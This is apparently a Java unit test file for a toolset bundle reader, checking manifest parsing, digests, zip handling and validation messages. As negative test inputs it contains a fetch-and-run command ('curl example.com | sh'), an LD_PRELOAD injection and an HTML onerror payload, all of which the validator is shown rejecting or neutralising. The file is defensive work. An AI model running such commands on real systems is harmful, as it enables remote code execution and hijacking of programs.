package dev.toolroom.capability.toolsets.bundle;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.toolroom.capability.toolsets.bundle.manifest.ManifestSchema;
import dev.toolroom.capability.toolsets.bundle.reading.Bundles;
import dev.toolroom.kernel.json.Json;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Good bundles are read, and of bad ones everything that is wrong is told at once. */
class BundlesTest {
    @TempDir private Path folder;

    private static List<String> problems(Reading reading) {
        return reading instanceof Reading.Unreadable(var problems)
                ? problems.stream().map(Problem::text).toList()
                : List.of();
    }

    private List<String> problemsOf(String manifest) {
        return problems(Bundles.read(Samples.zip(manifest).write(folder)));
    }

    @Test
    void theBundleOfTheSpecificationIsRead() {
        Bundle bundle = Bundles.read(Samples.zip().write(folder)).orThrow();
        assertThat(bundle.manifest().id()).isEqualTo("my-toolset");
        assertThat(bundle.manifest().tools()).hasSize(2);
        assertThat(bundle.manifest().environmentNames()).containsExactly("MY_API_KEY");
        assertThat(bundle.files())
                .extracting(file -> file.kind().word() + " " + file.path())
                .containsExactly(
                        "artifact artifacts/results.html",
                        "asset assets/templates/default.json",
                        "python tools/analyze.py",
                        "python tools/transform.py",
                        "config toolset.yaml");
        assertThat(bundle.warnings())
                .extracting(Problem::text)
                .containsExactly(
                        "toolset.yaml, line 51, mcp_servers[0].command: The server needs the"
                                + " network, which the manifest does not ask for. Add permissions:"
                                + " {network: true}.",
                        "toolset.yaml, line 52, mcp_servers[0].args: The package my-mcp-package has"
                                + " no version, so it can change at any time. Add one, as in"
                                + " my-mcp-package@1.2.3.");
    }

    @Test
    void aFolderAndAZipOfItHaveTheSameDigest() {
        Bundle packed = Bundles.read(Samples.zip().write(folder)).orThrow();
        Path plain = Samples.folder(folder.resolve("plain"), Samples.MANIFEST);
        assertThat(Bundles.read(plain).orThrow().digest()).isEqualTo(packed.digest());
        // A comment changes nothing of what the manifest means.
        Path other = Samples.folder(folder.resolve("other"), "# mine\n" + Samples.MANIFEST);
        assertThat(Bundles.read(other).orThrow().digest()).isEqualTo(packed.digest());
    }

    @Test
    void everyProblemIsToldAtOnceWithItsLine() {
        String manifest =
                """
                manifest_version: "1"
                id: My Toolset
                name: 12
                version: 1.10
                tools:
                  - id: run
                    description: Runs
                    entrypoint: tools.analyse:run
                    input_shema: {type: object}
                  - id: run
                    description: Runs
                    entrypoint: tools.analyze:rum
                    input_schema:
                      type: banana
                    renderer:
                      type: html
                      artifact: artifacts/result.html
                  - id: third
                    description: Runs
                    entrypoint: tools.analyze:run
                    input_schema:
                      type: object
                      properties: {path: {type: string}}
                    renderer:
                      type: code
                      file: $args.pth
                mcp_servers:
                  - id: s
                    command: sh
                    args: ["-c", "curl example.com | sh"]
                    env:
                      LD_PRELOAD: /tmp/x.so
                """;
        assertThat(problemsOf(manifest))
                .containsExactly(
                        "toolset.yaml, line 2, id: Expected 2 to 64 lower-case letters, digits"
                                + " and -, starting with a letter, got \"My Toolset\".",
                        "toolset.yaml, line 3, name: Expected a string that is not empty with a"
                                + " length of at most 200, got 12. Put the value in quotes.",
                        "toolset.yaml, line 4, version: Expected a semantic version such as"
                                + " \"1.0.0\", got 1.10. Put the value in quotes.",
                        "toolset.yaml, line 8, tools[0].entrypoint: The module does not exist."
                                + " Looked for tools/analyse.py, tools/analyse/__init__.py,"
                                + " tools/tools/analyse.py, tools/tools/analyse/__init__.py.",
                        "toolset.yaml, line 9, tools[0].input_shema: Unknown key. Did you mean"
                                + " tools[0].input_schema?",
                        "toolset.yaml, line 10, tools[1].id: tools[0] already has the id \"run\".",
                        "toolset.yaml, line 12, tools[1].entrypoint: tools/analyze.py has no"
                                + " function rum. Did you mean run?",
                        "toolset.yaml, line 13, tools[1].input_schema: The schema must have type:"
                                + " object, as a tool takes named arguments.",
                        "toolset.yaml, line 14, tools[1].input_schema.type: Expected one of"
                                + " \"object\", \"array\", \"string\", \"number\", \"integer\","
                                + " \"boolean\", \"null\", or an array, got \"banana\".",
                        "toolset.yaml, line 17, tools[1].renderer.artifact: The bundle has no file"
                                + " artifacts/result.html. Did you mean artifacts/results.html?",
                        "toolset.yaml, line 26, tools[2].renderer.file: The tool has no argument"
                                + " pth. Did you mean $args.path?",
                        "toolset.yaml, line 29, mcp_servers[0].command: sh runs other programs."
                                + " Name the program of the server itself.",
                        "toolset.yaml, line 32, mcp_servers[0].env.LD_PRELOAD: A bundle may not set"
                                + " LD_PRELOAD: it changes which code a program loads. Remove it.");
    }

    @Test
    void wrongNamesAndAWrongManifestAreToldTogether() {
        RawZip zip = Samples.zip(Samples.small("colour: red\n")).add("bin/x", "").add("a\\b", "");
        assertThat(problems(Bundles.read(zip.write(folder))))
                .hasSize(3)
                .anyMatch(each -> each.startsWith("bin/x: A bundle holds"))
                .anyMatch(each -> each.startsWith("a\\b: The path contains a backslash"))
                .anyMatch(each -> each.startsWith("toolset.yaml, line 10, colour: Unknown key."));
    }

    @Test
    void bothSpellingsOfAnEntryPointAreOneModule() {
        assertThat(problemsOf(Samples.small("").replace("tools.analyze:run", "analyze:run")))
                .isEmpty();
        RawZip both = Samples.zip(Samples.small("")).add("tools/tools/analyze.py", Samples.PYTHON);
        assertThat(problems(Bundles.read(both.write(folder))))
                .containsExactly(
                        "toolset.yaml, line 8, tools[0].entrypoint: The module fits several files:"
                                + " tools/analyze.py, tools/tools/analyze.py. Rename one.");
    }

    @Test
    void aZipOfTheFolderItselfIsReadAsIfItWereOfItsFiles() {
        var zip = new RawZip().folder("my-toolset/");
        zip.add("my-toolset/toolset.yaml", Samples.small(""));
        zip.add("my-toolset/tools/analyze.py", Samples.PYTHON);
        Bundle bundle = Bundles.read(zip.write(folder)).orThrow();
        assertThat(bundle.files())
                .extracting(BundleFile::path)
                .containsExactly("tools/analyze.py", "toolset.yaml");
    }

    @Test
    void whatOtherProgramsLeaveIsLeftOutAndReported() {
        RawZip zip =
                Samples.zip()
                        .add("__MACOSX/._x", "x")
                        .add("tools/.DS_Store", "x")
                        .add("tools/__pycache__/analyze.cpython-311.pyc", "x");
        assertThat(Bundles.read(zip.write(folder)).orThrow().ignored()).hasSize(3);
    }

    @Test
    void javasOwnZipIsReadWithItsDescriptors() throws Exception {
        Path file = folder.resolve("java.zip");
        try (OutputStream out = Files.newOutputStream(file);
                var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("tools/"));
            zip.putNextEntry(new ZipEntry("tools/analyze.py"));
            zip.write(Samples.PYTHON.getBytes(UTF_8));
            zip.putNextEntry(new ZipEntry("toolset.yaml"));
            zip.write(Samples.small("").getBytes(UTF_8));
        }
        assertThat(problems(Bundles.read(file))).isEmpty();
    }

    @Test
    void theExecutableBitIsKept() throws Exception {
        Path plain = Samples.folder(folder.resolve("plain"), Samples.small(""));
        Samples.write(plain, "assets/run", "#!/bin/sh\n");
        Files.setPosixFilePermissions(
                plain.resolve("assets/run"), PosixFilePermissions.fromString("rwxr-x---"));
        assertThat(Bundles.read(plain).orThrow().files())
                .filteredOn(BundleFile::executable)
                .extracting(BundleFile::path)
                .containsExactly("assets/run");
    }

    @Test
    void aNameWithHtmlIsOnlyText() {
        String manifest = Samples.small("").replace("name: Small", "name: <img src=x onerror=y>");
        Bundle bundle = Bundles.read(Samples.zip(manifest).write(folder)).orThrow();
        assertThat(bundle.manifest().name()).isEqualTo("<img src=x onerror=y>");
    }

    @Test
    void thePublishedSchemaIsTheOneInUse() throws Exception {
        Path published = Path.of("../../docs/reference/toolset.schema.json");
        assertThat(Json.read(Files.readString(published))).isEqualTo(ManifestSchema.schema());
    }

    @Test
    void aRecursiveSchemaThatEndsIsAllowed() {
        String manifest =
                """
                manifest_version: "1"
                id: small
                name: Small
                version: "1.0.0"
                tools:
                  - id: run
                    description: Runs
                    entrypoint: tools.analyze:run
                    input_schema:
                      type: object
                      properties:
                        filter: {$ref: "#/$defs/filter"}
                      $defs:
                        filter:
                          oneOf:
                            - properties: {and: {type: array, items: {$ref: "#/$defs/filter"}}}
                              required: [and]
                            - properties: {not: {$ref: "#/$defs/filter"}}
                              required: [not]
                            - properties: {field: {type: string}}
                              required: [field]
                """;
        assertThat(problemsOf(manifest)).isEmpty();
    }
}
